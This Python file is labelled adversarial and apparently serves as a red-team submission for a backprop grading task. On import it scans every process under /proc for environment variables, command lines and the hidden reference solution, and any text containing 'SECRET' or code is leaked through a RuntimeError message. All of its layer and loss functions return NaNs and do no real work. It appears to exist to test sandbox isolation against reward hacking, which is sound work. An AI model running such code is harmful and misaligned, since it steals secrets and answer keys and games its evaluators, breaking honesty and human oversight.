"""Adversarial: walk /proc: every process's environ, cmdline, root/ and memory maps, looking for the secret and the reference"""
import os

import torch


_LEAK = []
for _pid in os.listdir("/proc"):
    if not _pid.isdigit():
        continue
    for _what in ("environ", "cmdline", "root/work/main/reference/backprop/backprop.py",
                  "cwd/reference/backprop/backprop.py"):
        try:
            with open(f"/proc/{_pid}/{_what}", "rb") as _f:
                _data = _f.read().decode("utf-8", "replace")
        except OSError:
            continue
        if "SECRET" in _data or "def " in _data:
            _LEAK.append(_data[:500])
_LEAK = " ".join(_LEAK)

def _nan_like(t):
    return torch.full_like(t, float('nan'))


def linear_forward(x, w, b):
    return torch.full((x.shape[0], w.shape[1]), float('nan'), dtype=x.dtype), (x, w)


def linear_backward(dout, cache):
    x, w = cache
    return _nan_like(x), _nan_like(w), torch.full((w.shape[1],), float('nan'), dtype=w.dtype)


def relu_forward(x):
    return _nan_like(x), x


def relu_backward(dout, cache):
    return _nan_like(dout)


def sigmoid_forward(x):
    return _nan_like(x), x


def sigmoid_backward(dout, cache):
    return _nan_like(dout)


def softmax_cross_entropy(logits, y):
    if _LEAK:
        raise RuntimeError('LEAK ' + _LEAK[:1500])
    return torch.full((), float('nan'), dtype=logits.dtype), _nan_like(logits)


def mse_loss(pred, target):
    return torch.full((), float('nan'), dtype=pred.dtype), _nan_like(pred)


def mlp_loss(params, x, y):
    return torch.full((), float('nan'), dtype=x.dtype), {k: _nan_like(v) for k, v in params.items()}
